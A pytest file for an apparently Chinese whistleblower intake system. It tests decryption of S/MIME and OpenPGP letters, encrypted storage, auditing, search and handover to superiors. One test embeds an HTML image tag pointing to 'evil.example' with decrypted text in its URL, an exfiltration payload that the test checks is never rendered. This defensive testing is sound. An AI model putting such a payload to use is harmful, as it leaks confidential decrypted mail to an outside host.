"""A letter encrypted to the office: taken by the letterbox, opened at the desk, from then on like others."""

import re
from collections.abc import Callable
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path
from typing import get_args

import pytest
from sqlalchemy import select

from app.letterbox import Letterbox, Way
from cases import objects
from cases.audit.models import AuditLine
from cases.channels import mailkeys
from cases.channels.models import MailKey
from cases.db import session, transaction
from cases.inbox.models import Blob, Report
from crypto.mail import Kind
from intake.marks import Marks
from tests.crypto.mail_keys import mail_key
from tests.crypto.mail_programs import gpg_home, gpg_to, pem, smime_to
from tests.factories.desk_pages import Pages, pages
from tests.factories.letters import letter, multipart
from tests.factories.office import Sent

__all__ = ["pages"]

SECRET = "骨科耗材商每月十五号在地下车库给回扣，后备箱里装着信封。"
LEADER = "这件事蒋院长知道，钱也有他一份。"
PHRASE = "地下车库"


@pytest.fixture
def keyed(pages: Pages, tmp_path: Path) -> Pages:
    """An office with a key of each kind, and the mail programs of a sender who has imported them."""
    with transaction():
        for kind in get_args(Kind):
            mailkeys.keep(pages.office.desks["sec"], mail_key(kind))
    pem(mail_key("smime"), tmp_path)
    return pages


def inner(words: str = SECRET) -> bytes:
    """What a mail program encrypts: words and a file."""
    said = EmailMessage()
    said["Subject"] = "骨科的事"
    said.set_content(words, charset="utf-8")
    said.add_attachment("型号,钱\n".encode(), maintype="text", subtype="csv", filename="记账.csv")
    return said.as_bytes()


def smime(home: Path, name: str = "aes-256-gcm", words: str = SECRET) -> bytes:
    """A letter as an S/MIME program sends it."""
    return b"From: a@mail.example\r\nSubject: hello\r\n" + smime_to(home, name, inner(words), "SMIME")


def pgp(home: Path, key: Kind = "openpgp") -> bytes:
    """A letter as an OpenPGP program sends it (RFC 3156)."""
    sealed = gpg_to(gpg_home(mail_key(key), home), inner(), "--armor")
    parts = (
        b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n",
        b'Content-Type: application/octet-stream; name="encrypted.asc"\r\n\r\n' + sealed,
    )
    return multipart("encrypted; protocol=application/pgp-encrypted", *parts, head=b"From: a@mail.example\r\n")


def inline(home: Path) -> bytes:
    """A letter with the armour in its text."""
    return letter("您好：\n\n" + gpg_to(gpg_home(mail_key("openpgp"), home), SECRET.encode(), "--armor").decode())


def taken(data: bytes) -> str:
    """Bring it through the letterbox; the report's reference."""
    box = Letterbox(Marks(bytes(range(32))), objects.store(), 0)
    assert box.take(data, Way("举报邮箱"), datetime.now(UTC)).result == "received"
    with transaction(reading=True):
        return session().scalars(select(Report.ref)).one()


def read(pages: Pages, ref: str, who: str = "clerk") -> str:
    pages.post(who, f"/triage/{ref}/open-words", reason="受理审核")
    return pages.get(who, f"/triage/{ref}").text


def press(pages: Pages, ref: str, who: str = "clerk") -> str:
    """Press the button; the page that comes."""
    answer = pages.post(who, f"/triage/{ref}/mail")
    assert answer.status_code == 303
    return pages.get(who, answer.headers["Location"].partition("#")[0]).text


def acts(act: str) -> int:
    with transaction(reading=True):
        return len(session().scalars(select(AuditLine.id).where(AuditLine.act == act)).all())


@pytest.mark.parametrize("form", ["smime", "pgp", "inline"])
def test_it_is_opened_once_and_its_words_stay_with_the_report(keyed: Pages, tmp_path: Path, form: str) -> None:
    forms: dict[str, Callable[[Path], bytes]] = {"smime": smime, "pgp": pgp, "inline": inline}
    made = forms[form](tmp_path)
    ref = taken(made)
    before = read(keyed, ref)
    assert "打开加密邮件" in before
    assert PHRASE not in before
    page = press(keyed, ref)
    assert SECRET in page
    assert "未经完整性保护" not in page
    assert "打开加密邮件</button>" not in page
    with transaction(reading=True):
        files = len(session().scalars(select(Blob.id)).all())
    again = press(keyed, ref)
    assert again.count(SECRET) == 1
    with transaction(reading=True):
        assert len(session().scalars(select(Blob.id)).all()) == files
    assert acts("report.mail") == 2
    if form != "inline":
        assert "骨科的事" in page
        at = re.search(r'action="([^"]+)/view"(?:(?!action=)[\s\S])*?记账\.csv', page)
        assert at is not None
        assert "型号" in keyed.post("clerk", f"{at[1]}/view").text
    # Nothing of it lies anywhere in plain: neither in the database nor in the store.
    kept = Path(keyed.console.settings.database_url.removeprefix("sqlite:///"))
    for file in (*kept.parent.glob(f"{kept.name}*"), *tmp_path.rglob("*")):
        assert not file.is_file() or PHRASE.encode() not in file.read_bytes(), file
    # Whoever opens it later reads it too, without the mail key.
    assert SECRET in read(keyed, ref, "head")


def test_what_anybody_could_have_changed_says_so(keyed: Pages, tmp_path: Path) -> None:
    ref = taken(smime(tmp_path, "triple des in pieces"))
    read(keyed, ref)
    page = press(keyed, ref)
    assert SECRET in page
    assert "未经完整性保护" in page


def test_what_it_looks_like_is_never_drawn_and_nothing_is_loaded(keyed: Pages, tmp_path: Path) -> None:
    html = b'Content-Type: text/html; charset=utf-8\r\n\r\n<p>see</p><img src="http://evil.example/x?'
    data = b"From: a@b.cn\r\n" + smime_to(tmp_path, "aes-256-cbc", html + SECRET.encode() + b'">', "SMIME")
    ref = taken(data)
    read(keyed, ref)
    page = press(keyed, ref)
    assert "see" in page
    assert '<img src="http' not in page


def test_its_words_are_found_by_search_once_a_clue_was_made(keyed: Pages, tmp_path: Path) -> None:
    ref = taken(smime(tmp_path))
    read(keyed, ref)
    press(keyed, ref)
    keyed.post("clerk", f"/triage/{ref}/register")
    clue, _ = keyed.office.clue(sent=_sent(ref))
    found = keyed.post("wen", "/clues/search", q=PHRASE).text
    assert clue.ref in found


def _sent(ref: str) -> Sent:
    with transaction(reading=True):
        report = session().scalars(select(Report).where(Report.ref == ref)).one()
        return Sent(report.id, ref, b"")


def test_on_a_clue_who_holds_the_offices_key_opens_it_and_all_on_it_read_it(keyed: Pages, tmp_path: Path) -> None:
    ref = taken(smime(tmp_path))
    keyed.post("clerk", f"/triage/{ref}/register")
    clue, _ = keyed.office.clue(sent=_sent(ref))
    assert clue.ref not in keyed.post("wen", "/clues/search", q=PHRASE).text
    for who in ("wen", "head"):
        keyed.post(who, f"/clues/{clue.ref}/original/{ref}", reason="核对")
    refused = keyed.post("wen", f"/clues/{clue.ref}/mail/{ref}")
    assert "mail=nokey" in refused.headers["Location"]
    assert "您没有受理密钥" in keyed.get("wen", refused.headers["Location"].partition("#")[0]).text
    assert keyed.post("head", f"/clues/{clue.ref}/mail/{ref}").status_code == 303
    for who in ("head", "wen"):
        page = keyed.get(who, f"/clues/{clue.ref}").text
        assert SECRET in page
        assert "打开加密邮件" in page  # the line in the course
    assert clue.ref in keyed.post("wen", "/clues/search", q=PHRASE).text
    assert keyed.post("guqh", f"/clues/{clue.ref}/mail/{ref}").status_code == 404


def test_what_was_opened_is_printed_for_the_superior_before_it_is_destroyed(keyed: Pages, tmp_path: Path) -> None:
    ref = taken(smime(tmp_path, words=LEADER))
    keyed.post("clerk", f"/triage/{ref}/register")
    clue, _ = keyed.office.clue(sent=_sent(ref))
    at = f"/clues/{clue.ref}"
    keyed.post("wen", f"{at}/hand-up", to="派驻组", copies="1", reason="被反映人是院长")
    closed = keyed.post("wen", f"{at}/handover-print").text
    assert LEADER not in closed
    assert "这封信有加密的部分。" in closed
    keyed.post("wen", f"{at}/keep-here", reason="加密的部分还没有打开")
    keyed.post("head", f"{at}/original/{ref}", reason="核对")
    keyed.post("head", f"{at}/mail/{ref}")
    keyed.post("wen", f"{at}/hand-up", to="派驻组", copies="1", reason="被反映人是院长")
    sheet = keyed.post("wen", f"{at}/handover-print").text
    assert LEADER in sheet
    assert "记账.csv" in sheet


def test_whom_it_names_is_told_to_who_opened_it(keyed: Pages, tmp_path: Path) -> None:
    ref = taken(smime(tmp_path, words=LEADER))
    read(keyed, ref)
    page = press(keyed, ref)
    assert "写到了院领导" in page
    assert "应由上级处理" in page


def test_why_it_does_not_open_is_said(keyed: Pages, tmp_path: Path) -> None:
    other = mail_key("smime")
    with transaction():
        session().delete(session().scalars(select(MailKey).where(MailKey.kind == "smime")).one())
    ref = taken(smime(tmp_path))
    read(keyed, ref)
    assert "不是用本室现在或者以前的邮件密钥加密的" in press(keyed, ref)
    with transaction():
        mailkeys.keep(keyed.office.desks["sec"], other)
    assert SECRET in press(keyed, ref)


def test_without_opened_words_nothing_is_opened(keyed: Pages, tmp_path: Path) -> None:
    ref = taken(smime(tmp_path))
    answer = keyed.post("clerk", f"/triage/{ref}/mail")
    assert answer.headers["Location"].endswith(f"/triage/{ref}#words")
    assert acts("report.mail") == 0
    assert keyed.post("wen", f"/triage/{ref}/mail").status_code in {403, 404}
